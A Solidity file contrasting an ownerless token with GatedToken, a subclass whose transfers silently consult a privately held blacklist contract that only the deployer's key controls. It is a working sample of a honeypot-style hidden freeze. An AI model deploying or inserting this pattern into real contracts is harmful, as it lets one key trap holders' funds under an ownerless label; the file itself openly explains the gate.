// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

// Tokens that nobody owns. One moves by its own code alone; the other asks a contract that one key rules.

contract OwnerlessToken {
    string public constant name = "Ownerless";
    string public constant symbol = "OWN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// The world calls it of every token.
    function setUp(address) external pure {}

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _update(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _update(from, to, value);
        return true;
    }

    function _update(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract TransferRules {
    address private immutable keeper;
    mapping(address => bool) public isBarred;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function bar(address who, bool barred) external {
        require(msg.sender == keeper, "not the keeper");
        isBarred[who] = barred;
    }
}

contract GatedToken is OwnerlessToken {
    TransferRules private immutable rules = new TransferRules(msg.sender);

    function _update(address from, address to, uint256 value) internal override {
        require(!rules.isBarred(from), "barred");
        super._update(from, to, value);
    }
}
